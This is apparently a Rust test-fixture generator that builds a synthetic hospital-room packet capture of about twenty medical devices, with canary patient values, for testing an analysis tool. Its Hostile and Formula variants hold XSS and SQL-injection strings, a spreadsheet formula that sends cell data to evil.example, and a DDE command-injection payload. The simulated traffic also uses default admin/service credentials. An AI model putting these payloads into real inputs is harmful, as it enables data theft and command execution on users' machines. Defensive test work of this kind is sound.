//! The deterministic synthetic hospital-room scenario behind
//! `samples/hospital-room.pcap`: about twenty devices on 10.20.0.0/24 talking
//! DHCP, DNS, mDNS, LLDP, ARP, HL7/MLLP, DICOM, HTTP, Telnet, FTP, SNMPv2c,
//! TLS 1.0, SSH, SMB2 and SMB1. Patient fields carry canary values
//! (`CANARY^PATIENT^ZEBRA`, `MRN-CANARY-0001`, DOB 19010101) that Ward must
//! never store. The [`Variant::Hostile`] variant swaps in hostile device
//! names for UI-escaping tests.
//!
//! MAC prefixes are real IEEE MA-L assignments (from
//! /usr/share/ieee-data/oui.csv); host parts are made up.

use std::io::{self, Write};
use std::net::Ipv4Addr;

use crate::conv::{udp_exchange, Frame, TcpConversation};
use crate::packet::{
    eth_ipv4_udp, ethernet, gratuitous_arp, Endpoint, Mac, BROADCAST_MAC, ETHERTYPE_LLDP,
};
use crate::payload::{dhcp, dicom, dns, hl7, lldp, smb, snmp, tls};
use crate::pcap::{PcapWriter, LINKTYPE_ETHERNET};

/// 2026-01-05 08:00:00 UTC in microseconds since the Unix epoch.
pub const START_MICROS: u64 = 1_767_600_000_000_000;

/// Canary patient name (HL7 PID-5 and DICOM (0010,0010)).
pub const CANARY_NAME: &str = "CANARY^PATIENT^ZEBRA";
/// Canary medical record number.
pub const CANARY_MRN: &str = "MRN-CANARY-0001";
/// Canary date of birth.
pub const CANARY_DOB: &str = "19010101";

/// Which flavour of the scenario to generate.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Variant {
    /// Plain names (the committed sample).
    Normal,
    /// Hostile names: DHCP hostname and HTTP User-Agent `<script>alert(1)</script>`,
    /// HL7 sending application with HTML and SQL injection.
    Hostile,
    /// Spreadsheet formula injection: the pump's DHCP hostname is
    /// [`FORMULA_HOSTNAME`] (a live `=HYPERLINK` if a CSV cell keeps it).
    Formula,
}

/// The DHCP hostname of [`Variant::Formula`].
pub const FORMULA_HOSTNAME: &str = r#"=HYPERLINK("http://evil.example/steal?d="&A2,"Open")"#;

/// A device in the scenario.
#[derive(Debug, Clone, Copy)]
pub struct Device {
    /// Short role name.
    pub role: &'static str,
    /// Vendor owning the MAC prefix.
    pub vendor: &'static str,
    /// Ethernet address.
    pub mac: Mac,
    /// IPv4 address.
    pub ip: Ipv4Addr,
    /// Initial IP TTL of its stack.
    pub ttl: u8,
}

impl Device {
    /// The device as an endpoint on `port`.
    pub const fn at(&self, port: u16) -> Endpoint {
        Endpoint {
            mac: self.mac,
            ip: self.ip,
            port,
            ttl: self.ttl,
        }
    }
}

const fn dev(role: &'static str, vendor: &'static str, mac: Mac, last: u8, ttl: u8) -> Device {
    Device {
        role,
        vendor,
        mac,
        ip: Ipv4Addr::new(10, 20, 0, last),
        ttl,
    }
}

// OUI 00:01:42 = Cisco Systems, Inc
/// Router, DNS and DHCP server.
pub const GATEWAY: Device = dev(
    "gateway",
    "Cisco",
    [0x00, 0x01, 0x42, 0x3a, 0x10, 0x01],
    1,
    255,
);
// OUI 00:00:0C = Cisco Systems, Inc
/// Access switch `icu-sw-01` (LLDP, SNMP agent).
pub const SWITCH: Device = dev(
    "switch icu-sw-01",
    "Cisco",
    [0x00, 0x00, 0x0c, 0x7a, 0x10, 0x00],
    2,
    255,
);
// OUI 00:08:74 = Dell Inc.
/// PACS server `PACS_MAIN` (DICOM, TLS, SSH).
pub const PACS: Device = dev(
    "PACS server",
    "Dell",
    [0x00, 0x08, 0x74, 0x5c, 0x21, 0x0a],
    10,
    64,
);
// OUI 00:12:F0 = Intel Corporate
/// Mirth interface engine `MIRTH^HOSP`.
pub const MIRTH: Device = dev(
    "HL7 interface engine",
    "Intel",
    [0x00, 0x12, 0xf0, 0x44, 0x01, 0x0b],
    11,
    64,
);
// OUI 00:0B:DB = Dell Inc.
/// EHR server `EPIC^HOSP`.
pub const EHR: Device = dev(
    "EHR server",
    "Dell",
    [0x00, 0x0b, 0xdb, 0x71, 0x30, 0x0c],
    12,
    128,
);
// OUI 00:11:32 = Synology Incorporated
/// SMB2 file server.
pub const FILESERVER: Device = dev(
    "file server",
    "Synology",
    [0x00, 0x11, 0x32, 0x8e, 0x0d, 0x0d],
    13,
    64,
);
// OUI F8:C6:78 = Carefusion
/// Alaris infusion pump `ALARIS-PC-07` (DHCP with MUD URL, GoAhead web UI).
pub const PUMP: Device = dev(
    "infusion pump ALARIS-PC-07",
    "CareFusion",
    [0xf8, 0xc6, 0x78, 0x07, 0xa1, 0x15],
    21,
    64,
);
// OUI 58:42:E4 = Baxter International Inc
/// Baxter infusion pump.
pub const BAXTER_PUMP: Device = dev(
    "infusion pump",
    "Baxter",
    [0x58, 0x42, 0xe4, 0x12, 0x34, 0x16],
    22,
    64,
);
// OUI 00:09:5C = Philips Medical Systems - Cardiac and Monitoring Systems
/// IntelliVue patient monitor `INTELLIVUE^ICU-3`.
pub const MONITOR: Device = dev(
    "patient monitor INTELLIVUE",
    "Philips",
    [0x00, 0x09, 0x5c, 0x1f, 0x03, 0x1f],
    31,
    64,
);
// OUI 00:A0:37 = Mindray DS USA, Inc.
/// Mindray patient monitor.
pub const MINDRAY: Device = dev(
    "patient monitor",
    "Mindray",
    [0x00, 0xa0, 0x37, 0x2b, 0x20, 0x20],
    32,
    64,
);
// OUI 00:1A:FA = Welch Allyn
/// Welch Allyn vital-signs monitor.
pub const VITALS: Device = dev(
    "vital signs monitor",
    "Welch Allyn",
    [0x00, 0x1a, 0xfa, 0x33, 0x00, 0x21],
    33,
    64,
);
// OUI F0:E5:C3 = Drägerwerk AG & Co. KG aA
/// Dräger ventilator.
pub const VENTILATOR: Device = dev(
    "ventilator",
    "Draeger",
    [0xf0, 0xe5, 0xc3, 0x34, 0x00, 0x22],
    34,
    64,
);
// OUI 9C:C8:AE = Becton, Dickinson and Company
/// BD medication cabinet.
pub const CABINET: Device = dev(
    "medication cabinet",
    "BD",
    [0x9c, 0xc8, 0xae, 0x41, 0x00, 0x29],
    41,
    128,
);
// OUI 00:0E:8C = Siemens AG
/// CT scanner `CT_SCANNER_1`.
pub const CT: Device = dev(
    "CT scanner CT_SCANNER_1",
    "Siemens",
    [0x00, 0x0e, 0x8c, 0x50, 0xc7, 0x32],
    50,
    128,
);
// OUI 44:4B:5D = GE Healthcare
/// Old MRI console speaking SMB1.
pub const MRI: Device = dev(
    "MRI console",
    "GE Healthcare",
    [0x44, 0x4b, 0x5d, 0x51, 0x0a, 0x33],
    51,
    128,
);
// OUI 20:E7:91 = Siemens Healthcare Diagnostics, Inc
/// Lab analyzer with a Telnet service port.
pub const LAB_ANALYZER: Device = dev(
    "lab analyzer",
    "Siemens Healthcare Diagnostics",
    [0x20, 0xe7, 0x91, 0x60, 0x00, 0x3c],
    60,
    64,
);
// OUI 00:06:6B = Sysmex Corporation
/// Sysmex hematology analyzer with an FTP server.
pub const SYSMEX: Device = dev(
    "hematology analyzer",
    "Sysmex",
    [0x00, 0x06, 0x6b, 0x61, 0x00, 0x3d],
    61,
    64,
);
// OUI 00:01:E6 = Hewlett Packard
/// HP LaserJet printer `NPI1A2B3C`.
pub const PRINTER: Device = dev(
    "printer NPI1A2B3C",
    "HP",
    [0x00, 0x01, 0xe6, 0x1a, 0x2b, 0x3c],
    70,
    64,
);
// OUI 00:06:5B = Dell Inc.
/// Clinical workstation (HTTP, TLS, SSH, SMB2, SMB1).
pub const WORKSTATION: Device = dev(
    "clinical workstation",
    "Dell",
    [0x00, 0x06, 0x5b, 0x64, 0x00, 0x64],
    100,
    128,
);
// OUI 10:C5:95 = Lenovo
/// Biomed engineering laptop (Telnet, FTP, SNMP).
pub const BIOMED: Device = dev(
    "biomed laptop",
    "Lenovo",
    [0x10, 0xc5, 0x95, 0x65, 0x00, 0x65],
    101,
    128,
);

/// Every device of the scenario.
pub const DEVICES: [Device; 20] = [
    GATEWAY,
    SWITCH,
    PACS,
    MIRTH,
    EHR,
    FILESERVER,
    PUMP,
    BAXTER_PUMP,
    MONITOR,
    MINDRAY,
    VITALS,
    VENTILATOR,
    CABINET,
    CT,
    MRI,
    LAB_ANALYZER,
    SYSMEX,
    PRINTER,
    WORKSTATION,
    BIOMED,
];

/// Seconds after [`START_MICROS`] in microseconds.
const fn at(secs: u64, millis: u64) -> u64 {
    START_MICROS + secs * 1_000_000 + millis * 1_000
}

/// `YYYYMMDDHHMMSS` (UTC) of a microsecond timestamp, for HL7 TS fields.
fn hl7_time(ts_micros: u64) -> String {
    let (y, m, d, hh, mm, ss) = model::time::civil((ts_micros / 1_000_000) as i64);
    format!("{y:04}{m:02}{d:02}{hh:02}{mm:02}{ss:02}")
}

/// Deterministic filler bytes (TLS randoms, GUIDs, salts).
fn bytes<const N: usize>(seed: u8) -> [u8; N] {
    let mut out = [0u8; N];
    let mut x = u32::from(seed).wrapping_mul(0x9e37_79b9) | 1;
    for b in &mut out {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        *b = (x >> 24) as u8;
    }
    out
}

struct Names {
    pump_hostname: &'static str,
    monitor_app: &'static str,
    user_agent: &'static str,
}

fn names(variant: Variant) -> Names {
    match variant {
        Variant::Normal => Names {
            pump_hostname: "ALARIS-PC-07",
            monitor_app: "INTELLIVUE",
            user_agent:
                "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0",
        },
        Variant::Hostile => Names {
            pump_hostname: "<script>alert(1)</script>",
            monitor_app: "<img src=x onerror=alert(1)>'; DROP TABLE devices;--",
            user_agent: "<script>alert(1)</script>",
        },
        Variant::Formula => Names {
            pump_hostname: FORMULA_HOSTNAME,
            monitor_app: "@SUM(1+1)",
            user_agent: "+cmd|' /C calc'!A0",
        },
    }
}

fn lldp_frames(out: &mut Vec<Frame>) {
    let advert = lldp::Advert {
        chassis_mac: SWITCH.mac,
        port_id: "Gi0/7",
        port_description: "GigabitEthernet0/7",
        system_name: "icu-sw-01",
        system_description: SNMP_SYS_DESCR,
        capabilities: lldp::CAP_BRIDGE | lldp::CAP_ROUTER,
        enabled: lldp::CAP_BRIDGE | lldp::CAP_ROUTER,
        management: (SWITCH.ip, 1),
        ttl: 120,
    };
    let frame = ethernet(
        lldp::LLDP_MULTICAST,
        SWITCH.mac,
        ETHERTYPE_LLDP,
        &lldp::lldpdu(&advert),
    );
    for k in 0..4 {
        out.push(Frame {
            ts_micros: at(30 * k, 0),
            data: frame.clone(),
        });
    }
}

fn arp_frames(out: &mut Vec<Frame>) {
    for (i, d) in [VENTILATOR, BAXTER_PUMP, CABINET].iter().enumerate() {
        out.push(Frame {
            ts_micros: at(0, 200 + 100 * i as u64),
            data: gratuitous_arp(d.mac, d.ip),
        });
    }
}

/// DHCP DISCOVER/OFFER/REQUEST/ACK for `client` at `start`.
#[allow(clippy::too_many_arguments)]
fn dhcp_dora(
    out: &mut Vec<Frame>,
    start: u64,
    client: &Device,
    xid: u32,
    hostname: &str,
    vendor_class: &str,
    params: &[u8],
    mud_url: Option<&str>,
) {
    let unconfigured = Endpoint::new(client.mac, Ipv4Addr::UNSPECIFIED, 68).with_ttl(client.ttl);
    let to_server = Endpoint::new(BROADCAST_MAC, Ipv4Addr::BROADCAST, 67);
    let to_client = Endpoint::new(BROADCAST_MAC, Ipv4Addr::BROADCAST, 68);
    let server = GATEWAY.at(67);
    let mut client_id = vec![1u8];
    client_id.extend_from_slice(&client.mac);
    let requested = client.ip.octets();
    let server_id = GATEWAY.ip.octets();

    let client_msg = |kind: u8, secs: u16| {
        let kind_buf = [kind];
        let mut options: Vec<(u8, &[u8])> = vec![(53, &kind_buf)];
        options.push((61, &client_id));
        if kind == dhcp::msg::REQUEST {
            options.push((50, &requested));
            options.push((54, &server_id));
        }
        options.push((12, hostname.as_bytes()));
        options.push((60, vendor_class.as_bytes()));
        options.push((55, params));
        if let Some(url) = mud_url {
            options.push((161, url.as_bytes()));
        }
        dhcp::Dhcp {
            op: dhcp::BOOTREQUEST,
            xid,
            secs,
            ciaddr: Ipv4Addr::UNSPECIFIED,
            yiaddr: Ipv4Addr::UNSPECIFIED,
            siaddr: Ipv4Addr::UNSPECIFIED,
            chaddr: client.mac,
            options,
        }
        .encode()
    };
    let lease = 86_400u32.to_be_bytes();
    let t1 = 43_200u32.to_be_bytes();
    let t2 = 75_600u32.to_be_bytes();
    let mask = [255, 255, 255, 0];
    let domain = b"icu.hospital.example";
    let server_msg = |kind: u8| {
        dhcp::Dhcp {
            op: dhcp::BOOTREPLY,
            xid,
            secs: 0,
            ciaddr: Ipv4Addr::UNSPECIFIED,
            yiaddr: client.ip,
            siaddr: Ipv4Addr::UNSPECIFIED,
            chaddr: client.mac,
            options: vec![
                (
                    53,
                    if kind == dhcp::msg::OFFER {
                        &[2u8]
                    } else {
                        &[5u8]
                    },
                ),
                (54, &server_id),
                (51, &lease),
                (58, &t1),
                (59, &t2),
                (1, &mask),
                (3, &server_id),
                (6, &server_id),
                (15, domain),
            ],
        }
        .encode()
    };
    let id = (xid & 0xffff) as u16;
    let frames = [
        (
            start,
            eth_ipv4_udp(
                &unconfigured,
                &to_server,
                id,
                &client_msg(dhcp::msg::DISCOVER, 0),
            ),
        ),
        (
            start + 2_000,
            eth_ipv4_udp(
                &server,
                &to_client,
                id ^ 0x5a5a,
                &server_msg(dhcp::msg::OFFER),
            ),
        ),
        (
            start + 4_000,
            eth_ipv4_udp(
                &unconfigured,
                &to_server,
                id + 1,
                &client_msg(dhcp::msg::REQUEST, 1),
            ),
        ),
        (
            start + 6_000,
            eth_ipv4_udp(
                &server,
                &to_client,
                id ^ 0x5a5b,
                &server_msg(dhcp::msg::ACK),
            ),
        ),
    ];
    out.extend(
        frames
            .into_iter()
            .map(|(ts_micros, data)| Frame { ts_micros, data }),
    );
}

fn dns_frames(out: &mut Vec<Frame>) {
    let server = GATEWAY.at(53);
    let queries: [(&Device, u16, &str, Option<Ipv4Addr>, u64); 6] = [
        (
            &PUMP,
            0x1c01,
            "mud.example.com",
            Some(Ipv4Addr::new(203, 0, 113, 10)),
            at(1, 500),
        ),
        (
            &MONITOR,
            0x2a02,
            "mirth.hospital.example",
            Some(MIRTH.ip),
            at(3, 500),
        ),
        (
            &BAXTER_PUMP,
            0x0b03,
            "update.baxter.example",
            None,
            at(5, 0),
        ),
        (
            &MINDRAY,
            0x4d04,
            "central.icu.hospital.example",
            Some(MIRTH.ip),
            at(5, 200),
        ),
        (
            &VITALS,
            0x5e05,
            "connex.hospital.example",
            Some(EHR.ip),
            at(5, 400),
        ),
        (
            &WORKSTATION,
            0x6f06,
            "pacs.hospital.example",
            Some(PACS.ip),
            at(39, 900),
        ),
    ];
    for (i, (client, id, name, answer, ts)) in queries.into_iter().enumerate() {
        let q = dns::message(id, dns::FLAGS_QUERY, &[(name, dns::A)], &[], &[]);
        let r = match answer {
            Some(a) => dns::message(
                id,
                dns::FLAGS_RESPONSE,
                &[(name, dns::A)],
                &[dns::Rr::a(name, dns::IN, 300, a)],
                &[],
            ),
            None => dns::message(id, dns::FLAGS_NXDOMAIN, &[(name, dns::A)], &[], &[]),
        };
        out.extend(udp_exchange(
            &client.at(49_152 + 7 * i as u16),
            &server,
            ts,
            &q,
            Some(&r),
        ));
    }
}

fn mdns_frames(out: &mut Vec<Frame>) {
    let instance = "HP LaserJet M404 [1A2B3C]._ipp._tcp.local";
    let host = "NPI1A2B3C.local";
    let unique = dns::IN | dns::CACHE_FLUSH;
    let answers = [
        dns::Rr::ptr("_ipp._tcp.local", dns::IN, 4500, instance),
        dns::Rr::txt(
            instance,
            unique,
            4500,
            &[
                "txtvers=1",
                "qtotal=1",
                "rp=ipp/print",
                "ty=HP LaserJet M404",
                "product=(HP LaserJet M404)",
                "usb_MFG=HP",
                "usb_MDL=HP LaserJet M404",
            ],
        ),
        dns::Rr::srv(instance, unique, 120, 631, host),
        dns::Rr::a(host, unique, 120, PRINTER.ip),
    ];
    let msg = dns::message(0, dns::FLAGS_MDNS_RESPONSE, &[], &answers, &[]);
    let group = Endpoint::new(
        [0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb],
        Ipv4Addr::new(224, 0, 0, 251),
        5353,
    );
    let src = Endpoint {
        ttl: 255,
        ..PRINTER.at(5353)
    };
    for k in 0..2u16 {
        out.push(Frame {
            ts_micros: at(10 + u64::from(k), 0),
            data: eth_ipv4_udp(&src, &group, 0x0100 + k, &msg),
        });
    }
}

fn hl7_frames(out: &mut Vec<Frame>, n: &Names) {
    let patient = hl7::Patient {
        mrn: CANARY_MRN,
        name: CANARY_NAME,
        dob: CANARY_DOB,
    };

    let start = at(15, 0);
    let route = hl7::Route {
        sending_app: "EPIC",
        sending_facility: "HOSP",
        receiving_app: "MIRTH",
        receiving_facility: "HOSP",
    };
    let mut c = TcpConversation::new(EHR.at(50_211), MIRTH.at(2575), start);
    let adt = hl7::adt_a01(&route, &hl7_time(start), "EPIC00042", &patient);
    c.handshake().client_send(&hl7::mllp(&adt)).wait(5_000);
    let ack = hl7::ack(
        &route.reversed(),
        &hl7_time(c.now()),
        "A01",
        "MIRTH7001",
        "EPIC00042",
    );
    c.server_send(&hl7::mllp(&ack)).close();
    out.extend(c.into_frames());

    let start = at(20, 0);
    let route = hl7::Route {
        sending_app: n.monitor_app,
        sending_facility: "ICU-3",
        receiving_app: "MIRTH",
        receiving_facility: "HOSP",
    };
    let mut c = TcpConversation::new(MONITOR.at(49_200), MIRTH.at(2575), start);
    let oru = hl7::oru_r01(&route, &hl7_time(start), "MSG00001", &patient);
    c.handshake().client_send(&hl7::mllp(&oru)).wait(5_000);
    let ack = hl7::ack(
        &route.reversed(),
        &hl7_time(c.now()),
        "R01",
        "MIRTH7002",
        "MSG00001",
    );
    c.server_send(&hl7::mllp(&ack)).close();
    out.extend(c.into_frames());
}

fn dicom_frames(out: &mut Vec<Frame>) {
    let sop_instance = "1.2.3.4.5.6.7.8.1.20260105.1";
    let rq = dicom::Association {
        calling_ae: "CT_SCANNER_1",
        called_ae: "PACS_MAIN",
        max_pdu: 16_384,
        implementation_class_uid: "1.2.3.4.5.6.7.8",
        implementation_version: "SIEMENS_CT_VA40",
    };
    let ac = dicom::Association {
        implementation_class_uid: "1.2.3.4.5.6.7.9",
        implementation_version: "PACS_STORE_22",
        ..rq
    };
    let image = dicom::CtImage {
        sop_instance,
        study_instance: "1.2.3.4.5.6.7.8.2.20260105",
        series_instance: "1.2.3.4.5.6.7.8.3.20260105",
        patient_name: CANARY_NAME,
        patient_id: CANARY_MRN,
        birth_date: CANARY_DOB,
    };
    let command = dicom::c_store_rq(1, dicom::CT_IMAGE_STORAGE, sop_instance);
    let dataset = dicom::ct_dataset(&image);
    let rsp = dicom::c_store_rsp(1, dicom::CT_IMAGE_STORAGE, sop_instance);

    let mut c = TcpConversation::new(CT.at(50_104), PACS.at(104), at(30, 0));
    c.handshake()
        .client_send(&dicom::associate_rq(
            &rq,
            1,
            dicom::CT_IMAGE_STORAGE,
            &[dicom::EXPLICIT_VR_LE, dicom::IMPLICIT_VR_LE],
        ))
        .server_send(&dicom::associate_ac(&ac, 1, dicom::EXPLICIT_VR_LE))
        .client_send(&dicom::p_data(&[
            (1, dicom::PDV_COMMAND | dicom::PDV_LAST, &command),
            (1, dicom::PDV_LAST, &dataset),
        ]))
        .server_send(&dicom::p_data(&[(
            1,
            dicom::PDV_COMMAND | dicom::PDV_LAST,
            &rsp,
        )]))
        .client_send(&dicom::release_rq())
        .server_send(&dicom::release_rp())
        .close();
    out.extend(c.into_frames());
}

fn tls_frames(out: &mut Vec<Frame>) {
    let ciphers = [0x0005, 0x0004, 0x002f, 0x0035, 0x000a, 0x0009, 0x00ff];
    let mut client_random = bytes::<32>(1);
    let mut server_random = bytes::<32>(2);
    let t = ((at(40, 0) / 1_000_000) as u32).to_be_bytes();
    client_random[..4].copy_from_slice(&t);
    server_random[..4].copy_from_slice(&t);
    let mut c = TcpConversation::new(WORKSTATION.at(49_443), PACS.at(443), at(40, 0));
    c.handshake()
        .client_send(&tls::client_hello(
            0x0301,
            &client_random,
            &ciphers,
            "pacs.hospital.example",
        ))
        .server_send(&tls::server_hello(
            0x0301,
            &server_random,
            &bytes::<32>(3),
            tls::TLS_RSA_WITH_RC4_128_SHA,
        ))
        .close();
    out.extend(c.into_frames());
}

fn ssh_frames(out: &mut Vec<Frame>) {
    let mut c = TcpConversation::new(WORKSTATION.at(49_522), PACS.at(22), at(45, 0));
    c.handshake()
        .server_send(b"SSH-2.0-OpenSSH_5.3\r\n")
        .client_send(b"SSH-2.0-PuTTY_Release_0.70\r\n")
        .close();
    out.extend(c.into_frames());
}

fn http_frames(out: &mut Vec<Frame>, n: &Names) {
    let request = format!(
        "GET /cgi-bin/status.asp HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\nAccept: text/html\r\nConnection: close\r\n\r\n",
        PUMP.ip, n.user_agent
    );
    // Larger than one MSS so the response spans two TCP segments (exercises reassembly).
    let mut body = String::from(
        "<html><head><title>Alaris PC Unit 8015</title></head><body><h1>ALARIS-PC-07</h1>\n<p>Status: Infusing</p><p>Firmware 9.33.1</p>\n<table>\n",
    );
    for ch in 1..=24 {
        body += &format!("<tr><td>Channel {ch}</td><td>Module LVP 8100</td><td>Idle</td><td>0.0 mL/h</td></tr>\n");
    }
    body += "</table></body></html>\n";
    let response = format!(
        "HTTP/1.1 200 OK\r\nServer: GoAhead-Webs\r\nDate: Mon, 05 Jan 2026 08:00:50 GMT\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let mut c = TcpConversation::new(WORKSTATION.at(49_680), PUMP.at(80), at(50, 0));
    c.handshake()
        .client_send(request.as_bytes())
        .server_send(response.as_bytes())
        .close();
    out.extend(c.into_frames());
}

fn smb_frames(out: &mut Vec<Frame>) {
    let now = at(60, 0) / 1_000_000;
    let mut c = TcpConversation::new(WORKSTATION.at(49_745), FILESERVER.at(445), at(60, 0));
    c.handshake()
        .client_send(&smb::smb2_negotiate_request(
            &[0x0202, 0x0210, 0x0300, 0x0302, 0x0311],
            &bytes::<16>(4),
            &bytes::<32>(5),
        ))
        .server_send(&smb::smb2_negotiate_response(
            0x0210,
            &bytes::<16>(6),
            now,
            now - 86_400 * 3,
        ))
        .close();
    out.extend(c.into_frames());

    let dialects = [
        "PC NETWORK PROGRAM 1.0",
        "LANMAN1.0",
        "Windows for Workgroups 3.1a",
        "LM1.2X002",
        "LANMAN2.1",
        "NT LM 0.12",
    ];
    let mut c = TcpConversation::new(WORKSTATION.at(49_746), MRI.at(445), at(62, 0));
    c.handshake()
        .client_send(&smb::smb1_negotiate_request(&dialects))
        .server_send(&smb::smb1_negotiate_response(
            5,
            &bytes::<8>(7),
            "WORKGROUP",
            "MRI-CONSOLE",
            now + 2,
        ))
        .close();
    out.extend(c.into_frames());
}

fn telnet_frames(out: &mut Vec<Frame>) {
    const IAC: u8 = 255;
    const WILL: u8 = 251;
    const WONT: u8 = 252;
    const DO: u8 = 253;
    let mut c = TcpConversation::new(BIOMED.at(50_023), LAB_ANALYZER.at(23), at(70, 0));
    c.handshake()
        .server_send(&[IAC, DO, 24, IAC, DO, 32, IAC, DO, 35, IAC, DO, 39]) // terminal type, speed, X display, new environ
        .client_send(&[IAC, WONT, 24, IAC, WONT, 32, IAC, WONT, 35, IAC, WONT, 39])
        .server_send(&[IAC, WILL, 3, IAC, WILL, 1]) // suppress go-ahead, echo
        .client_send(&[IAC, DO, 3, IAC, DO, 1])
        .server_send(b"\r\nADVIA Centaur service port\r\n\r\nlogin: ")
        .client_send(b"service\r\n")
        .server_send(b"service\r\nPassword: ")
        .client_send(b"service\r\n")
        .server_send(b"\r\nWelcome to the ADVIA service shell\r\n$ ")
        .client_send(b"exit\r\n")
        .server_send(b"exit\r\nlogout\r\n")
        .close();
    out.extend(c.into_frames());
}

fn ftp_frames(out: &mut Vec<Frame>) {
    let mut c = TcpConversation::new(BIOMED.at(50_021), SYSMEX.at(21), at(80, 0));
    c.handshake()
        .server_send(b"220 Sysmex FTP server ready\r\n")
        .client_send(b"USER admin\r\n")
        .server_send(b"331 Password required for admin\r\n")
        .client_send(b"PASS admin\r\n")
        .server_send(b"230 User admin logged in\r\n")
        .client_send(b"SYST\r\n")
        .server_send(b"215 UNIX Type: L8\r\n")
        .client_send(b"QUIT\r\n")
        .server_send(b"221 Goodbye\r\n")
        .close();
    out.extend(c.into_frames());
}

/// sysDescr of the switch (SNMP and LLDP).
pub const SNMP_SYS_DESCR: &str =
    "Cisco IOS Software, C2960 Software (C2960-LANBASEK9-M), Version 15.0(2)SE11";

fn snmp_frames(out: &mut Vec<Frame>) {
    const SYS_DESCR: &[u32] = &[1, 3, 6, 1, 2, 1, 1, 1, 0];
    const SYS_OBJECT_ID: &[u32] = &[1, 3, 6, 1, 2, 1, 1, 2, 0];
    const SYS_NAME: &[u32] = &[1, 3, 6, 1, 2, 1, 1, 5, 0];
    let req = snmp::message(
        "public",
        snmp::GET_REQUEST,
        0x1a2b,
        &[
            (SYS_DESCR, snmp::Value::Null),
            (SYS_OBJECT_ID, snmp::Value::Null),
            (SYS_NAME, snmp::Value::Null),
        ],
    );
    let resp = snmp::message(
        "public",
        snmp::RESPONSE,
        0x1a2b,
        &[
            (SYS_DESCR, snmp::Value::Octets(SNMP_SYS_DESCR.as_bytes())),
            (
                SYS_OBJECT_ID,
                snmp::Value::Oid(&[1, 3, 6, 1, 4, 1, 9, 1, 1208]),
            ), // cisco catWS-C2960-24TT-L
            (SYS_NAME, snmp::Value::Octets(b"icu-sw-01")),
        ],
    );
    out.extend(udp_exchange(
        &BIOMED.at(50_161),
        &SWITCH.at(161),
        at(90, 0),
        &req,
        Some(&resp),
    ));
}

/// All frames of the scenario, in timestamp order.
pub fn frames(variant: Variant) -> Vec<Frame> {
    let n = names(variant);
    let mut out = Vec::new();
    lldp_frames(&mut out);
    arp_frames(&mut out);
    let params = [1, 3, 6, 12, 15, 28, 42, 51, 54, 58, 59, 119];
    dhcp_dora(
        &mut out,
        at(1, 0),
        &PUMP,
        0x3903_f326,
        n.pump_hostname,
        "CareFusion Alaris PC 8015",
        &params,
        Some("https://mud.example.com/pump.json"),
    );
    dhcp_dora(
        &mut out,
        at(3, 0),
        &MONITOR,
        0x5f1c_0a31,
        "INTELLIVUE-ICU3",
        "Philips IntelliVue MX800",
        &[1, 3, 6, 15, 42, 51, 54],
        None,
    );
    dns_frames(&mut out);
    mdns_frames(&mut out);
    hl7_frames(&mut out, &n);
    dicom_frames(&mut out);
    tls_frames(&mut out);
    ssh_frames(&mut out);
    http_frames(&mut out, &n);
    smb_frames(&mut out);
    telnet_frames(&mut out);
    ftp_frames(&mut out);
    snmp_frames(&mut out);
    out.sort_by_key(|f| f.ts_micros); // stable: frames of one conversation keep their order
    out
}

/// Writes the scenario as a pcap (Ethernet link type) to `out`.
pub fn write<W: Write>(out: W, variant: Variant) -> io::Result<W> {
    let mut w = PcapWriter::new(out, LINKTYPE_ETHERNET)?;
    w.write_frames(&frames(variant))?;
    w.into_inner()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hl7_time_formats_start() {
        assert_eq!(hl7_time(START_MICROS), "20260105080000");
        assert_eq!(hl7_time(at(90, 0)), "20260105080130");
    }

    #[test]
    fn deterministic_and_small() {
        let a = write(Vec::new(), Variant::Normal).unwrap();
        let b = write(Vec::new(), Variant::Normal).unwrap();
        assert_eq!(a, b);
        assert!(a.len() < 200 * 1024, "sample is {} bytes", a.len());
    }

    #[test]
    fn canaries_present_and_hostile_names_swapped() {
        let normal = write(Vec::new(), Variant::Normal).unwrap();
        let hostile = write(Vec::new(), Variant::Hostile).unwrap();
        let has =
            |hay: &[u8], needle: &str| hay.windows(needle.len()).any(|w| w == needle.as_bytes());
        assert!(has(&normal, CANARY_NAME) && has(&normal, CANARY_MRN));
        assert!(has(&normal, "ALARIS-PC-07") && !has(&normal, "<script>"));
        assert!(has(&hostile, "<script>alert(1)</script>"));
        assert!(has(
            &hostile,
            "<img src=x onerror=alert(1)>'; DROP TABLE devices;--"
        ));
    }

    #[test]
    fn unique_macs_and_ips() {
        for (i, a) in DEVICES.iter().enumerate() {
            for b in &DEVICES[i + 1..] {
                assert_ne!(a.mac, b.mac);
                assert_ne!(a.ip, b.ip);
            }
        }
    }
}
